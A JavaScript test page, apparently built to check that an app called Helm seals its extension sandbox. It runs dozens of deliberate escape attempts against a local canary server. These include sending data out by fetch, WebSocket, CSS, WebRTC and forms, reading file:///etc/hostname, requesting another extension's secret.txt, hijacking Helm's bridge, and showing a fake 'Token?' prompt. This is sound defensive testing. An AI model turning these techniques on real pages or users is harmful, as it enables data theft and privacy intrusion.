// Every way out of an extension frame that Helm must close. Each attempt resolves to true if
// the page could tell it got through; the test's canary server is the real judge.
(function () {
  'use strict';
  // The canary: an address (127.0.0.1 unless given) and a port; with a zone, each attempt also
  // gets a host name of its own (<attempt>.<zone>), so a DNS query says which one leaked.
  var params = new URLSearchParams(location.hash.slice(1));
  var port = params.get('port');
  var address = params.get('address') || '127.0.0.1';
  var zone = params.get('zone');
  var rtcPort = params.get('rtc') || port;
  var bound = Number(params.get('wait') || 6000);
  function at(attempt, scheme) {
    return (scheme || 'http') + '://' + (zone ? attempt + '.' + zone : address) + ':' + port;
  }
  var canary = 'http://' + address + ':' + port;
  var other = 'helm-ext://' + params.get('other');
  var violations = [];
  document.addEventListener('securitypolicyviolation', function (e) { violations.push(e.violatedDirective); });

  function settle(ms) {
    return new Promise(function (resolve) { setTimeout(function () { resolve(false); }, ms); });
  }
  function loads(tag, attr, url, extra) {
    return new Promise(function (resolve) {
      var el = document.createElement(tag);
      el.onload = function () { resolve(true); };
      el.onerror = function () { resolve(false); };
      if (extra) extra(el);
      el[attr] = url;
      document.body.appendChild(el);
    });
  }
  function requestOk(p) {
    return p.then(function (r) { return r === undefined ? true : !!r; }, function () { return false; });
  }
  function frameLoaded(url) {
    // A blocked frame still fires load (with an error page or nothing); reading it tells.
    return new Promise(function (resolve) {
      var f = document.createElement('iframe');
      f.onload = function () {
        try { resolve(!!(f.contentDocument && f.contentDocument.body && f.contentDocument.body.textContent.length)); }
        catch (e) { resolve(false); }
      };
      f.src = url;
      document.body.appendChild(f);
    });
  }
  function xhr(url) {
    return new Promise(function (resolve) {
      var r = new XMLHttpRequest();
      r.onload = function () { resolve(true); };
      r.onerror = function () { resolve(false); };
      try { r.open('GET', url); r.send(); } catch (e) { resolve(false); }
    });
  }
  function socket() {
    return new Promise(function (resolve) {
      try {
        var s = new WebSocket(at('websocket', 'ws') + '/ws');
        s.onopen = function () { resolve(true); };
        s.onerror = function () { resolve(false); };
      } catch (e) { resolve(false); }
    });
  }
  function eventSource() {
    return new Promise(function (resolve) {
      try {
        var s = new EventSource(at('eventsource') + '/events');
        s.onopen = function () { s.close(); resolve(true); };
        s.onerror = function () { s.close(); resolve(false); };
      } catch (e) { resolve(false); }
    });
  }
  function css() {
    var style = document.createElement('style');
    style.textContent = '@import url("' + at('css-import') + '/import.css");' +
      '@font-face { font-family: leak; src: url("' + at('css-font') + '/font.woff"); }' +
      '.leak { background-image: url("' + at('css-image') + '/bg.png"); font-family: leak; }';
    document.head.appendChild(style);
    var div = document.createElement('div');
    div.className = 'leak';
    div.textContent = 'leak';
    document.body.appendChild(div);
    return Promise.all([loads('link', 'href', at('stylesheet') + '/sheet.css', function (l) { l.rel = 'stylesheet'; }),
      document.fonts.load('16px leak').then(function (f) { return f.length > 0; }, function () { return false; })])
      .then(function (r) { return r[0] || r[1]; });
  }
  function hints() {
    ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload'].forEach(function (rel) {
      var l = document.createElement('link');
      l.rel = rel; l.as = 'fetch'; l.href = at(rel) + '/' + rel;
      document.head.appendChild(l);
    });
    // A preconnect to the address itself: TCP with no name to resolve.
    var direct = document.createElement('link');
    direct.rel = 'preconnect'; direct.href = canary + '/';
    document.head.appendChild(direct);
    // Speculation rules: inline, so the page policy refuses them; without it, prefetch and
    // prerender are the engine's own requests.
    var rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({
      prefetch: [{ source: 'list', urls: [at('speculation-prefetch', 'https') + '/'] }],
      prerender: [{ source: 'list', urls: [at('speculation-prerender', 'https') + '/'] }]
    });
    document.head.appendChild(rules);
    var a = document.createElement('a');
    a.href = '#nowhere'; a.ping = at('ping') + '/ping';
    document.body.appendChild(a);
    a.click();
    return settle(300);
  }
  function workers() {
    var made = false;
    try { new Worker('worker.js#' + encodeURIComponent(at('worker'))); made = true; } catch (e) { /* refused */ }
    try {
      var blob = new Blob(['fetch("' + at('blob-worker') + '/blob-worker")'], { type: 'text/javascript' });
      new Worker(URL.createObjectURL(blob)); made = true;
    } catch (e) { /* refused */ }
    try { new SharedWorker('worker.js#' + encodeURIComponent(at('shared-worker'))); made = true; } catch (e) { /* refused */ }
    var sw = navigator.serviceWorker ? navigator.serviceWorker.register('worker.js').then(function () { return true; }, function () { return false; }) : Promise.resolve(false);
    return sw.then(function (r) { return r; });
  }
  function webrtc() {
    return new Promise(function (resolve) {
      try {
        var pc = new RTCPeerConnection({ iceServers: [
          { urls: 'stun:' + address + ':' + rtcPort },
          { urls: ['turn:' + address + ':' + rtcPort + '?transport=udp', 'turn:' + address + ':' + rtcPort + '?transport=tcp'], username: 'u', credential: 'p' }] });
        var leaked = false;
        pc.createDataChannel('leak');
        pc.onicecandidate = function (e) {
          if (e.candidate && / typ (srflx|relay)/.test(e.candidate.candidate)) leaked = true;
          if (!e.candidate) resolve(leaked);
        };
        pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).catch(function () { resolve(false); });
        setTimeout(function () { resolve(leaked); }, Math.min(4000, bound));
      } catch (e) { resolve(false); }
    });
  }
  function subframeBridge() {
    var f = document.createElement('iframe');
    document.body.appendChild(f);
    var w = f.contentWindow;
    return Promise.resolve(!!(w && (w.helm || w.qt)));
  }
  function channelTransport() {
    return Promise.resolve(typeof window.qt !== 'undefined' && !!(window.qt && window.qt.webChannelTransport));
  }
  function spoofHelm() {
    var original = window.helm.call;
    try { window.helm.call = function () {}; } catch (e) { /* frozen */ }
    try { window.helm = { call: function () {} }; } catch (e) { /* read-only */ }
    try { Object.defineProperty(window, 'helm', { value: {} }); } catch (e) { /* not configurable */ }
    return Promise.resolve(window.helm.call !== original || !Object.isFrozen(window.helm));
  }

  function permissions() {
    // Every request must be answered (denied), never left pending.
    function answered(p) {
      return Promise.race([p.then(function (v) { return v; }, function () { return false; }),
        new Promise(function (resolve) { setTimeout(function () { resolve('pending'); }, 5000); })]);
    }
    return Promise.all([
      answered(new Promise(function (resolve) {
        navigator.geolocation.getCurrentPosition(function () { resolve(true); }, function () { resolve(false); });
      })),
      answered(Notification.requestPermission().then(function (p) { return p === 'granted'; })),
      answered(navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then(function () { return true; })),
      answered(navigator.mediaDevices.getDisplayMedia({ video: true }).then(function () { return true; })),
      answered(navigator.clipboard.readText().then(function () { return true; })),
      answered(navigator.clipboard.writeText('x').then(function () { return true; })),
      answered(navigator.storage.persist())
    ]);
  }
  function download() {
    var a = document.createElement('a');
    a.href = 'pixel.svg'; a.download = 'pixel.svg';
    document.body.appendChild(a);
    a.click();
    var blob = document.createElement('a');
    blob.href = URL.createObjectURL(new Blob(['x'])); blob.download = 'x.txt';
    document.body.appendChild(blob);
    blob.click();
    return Promise.resolve(false);
  }

  function stealBridge() {
    // Replace every built-in the page-side helm might use, then call: none may be handed
    // Helm's private node, and the call must still be answered by Helm.
    var caught = [];
    function spy(proto, name) {
      var original = proto[name];
      proto[name] = function () { caught.push(this); return original.apply(this, arguments); };
    }
    spy(EventTarget.prototype, 'dispatchEvent');
    spy(EventTarget.prototype, 'addEventListener');
    spy(String.prototype, 'slice');
    var detail = Object.getOwnPropertyDescriptor(CustomEvent.prototype, 'detail');
    Object.defineProperty(CustomEvent.prototype, 'detail', { configurable: true, get: function () { caught.push(this.target); return detail.get.call(this); } });
    var parse = JSON.parse;
    JSON.parse = function () { caught.push('parse'); return parse.apply(JSON, arguments); };
    return window.helm.call('c', 'ping', {}).then(function (r) {
      var leaked = caught.some(function (x) { return x && x.nodeName === 'HELM-BRIDGE'; }) || caught.indexOf('parse') !== -1;
      return leaked || !r.ok;
    });
  }

  window.hostile = {
    escape: function () {
      var attempts = {
        fetch: requestOk(fetch(at('fetch') + '/fetch', { mode: 'no-cors' })),
        fetchAddress: requestOk(fetch(canary + '/fetch', { mode: 'no-cors' })),
        xhr: xhr(at('xhr') + '/xhr'),
        img: loads('img', 'src', at('img') + '/img.png'),
        css: css(),
        websocket: socket(),
        eventsource: eventSource(),
        beacon: Promise.resolve(navigator.sendBeacon(at('beacon') + '/beacon', 'x')).then(function () { return settle(300); }),
        script: loads('script', 'src', at('script') + '/script.js'),
        module: import(at('module') + '/module.js').then(function () { return true; }, function () { return false; }),
        media: Promise.all([loads('video', 'src', at('video') + '/v.mp4'), loads('audio', 'src', at('audio') + '/a.mp3')]).then(function (r) { return r[0] || r[1]; }),
        object: Promise.all([loads('object', 'data', at('object') + '/o'), loads('embed', 'src', at('embed') + '/e')]).then(function () { return settle(300); }),
        iframe: frameLoaded(at('iframe') + '/frame'),
        srcdoc: loads('iframe', 'srcdoc', '<img src="' + at('srcdoc') + '/srcdoc.png">').then(function () { return settle(300); }),
        hints: hints(),
        fileFetch: requestOk(fetch('file:///etc/hostname')),
        fileImg: loads('img', 'src', 'file:///usr/share/pixmaps/debian-logo.png'),
        fileFrame: frameLoaded('file:///etc/hostname'),
        workers: workers(),
        webrtc: webrtc(),
        otherFetch: requestOk(fetch(other + '/secret.txt')),
        otherImg: loads('img', 'src', other + '/pixel.svg'),
        otherFrame: frameLoaded(other + '/index.html'),
        windowOpen: Promise.resolve(!!window.open(at('window-open') + '/open') || !!window.open(other + '/index.html')),
        subframeBridge: subframeBridge(),
        channelTransport: channelTransport(),
        spoofHelm: spoofHelm(),
        // Helm answers these itself, showing nothing: a page must not imitate Helm's dialogs.
        dialogs: Promise.resolve(alert('Helm') !== undefined || confirm('Allow?') || prompt('Token?', 'x') !== null),
        stealBridge: stealBridge(),
        ownImage: loads('img', 'src', 'pixel.svg')
      };
      attempts.download = download();
      var names = Object.keys(attempts);
      // An attempt that never answers did not get through either; the canary has the last word.
      var bounded = names.map(function (n) {
        return Promise.race([attempts[n], new Promise(function (resolve) { setTimeout(function () { resolve('no answer'); }, bound); })]);
      });
      return Promise.all(bounded).then(function (results) {
        var out = {};
        names.forEach(function (n, i) { out[n] = results[i]; });
        return { got_through: out, violations: violations.length };
      });
    },
    permissions: permissions,
    leave: function () {
      // Navigation and forms last: had one worked, the page would be gone.
      var form = document.createElement('form');
      form.action = canary + '/form'; form.method = 'POST';
      var input = document.createElement('input');
      input.name = 'x'; input.value = 'leak';
      form.appendChild(input);
      document.body.appendChild(form);
      try { form.submit(); } catch (e) { /* refused */ }
      var blank = form.cloneNode(true);
      blank.target = '_blank';
      document.body.appendChild(blank);
      try { blank.submit(); } catch (e) { /* refused */ }
      var meta = document.createElement('meta');
      meta.httpEquiv = 'refresh'; meta.content = '0; url=' + canary + '/refresh';
      document.head.appendChild(meta);
      var a = document.createElement('a');
      a.href = canary + '/link';
      document.body.appendChild(a);
      a.click();
      location.href = other + '/index.html';
      location.assign('file:///etc/hostname');
      location.href = canary + '/navigate';
      return true;
    }
  };
})();
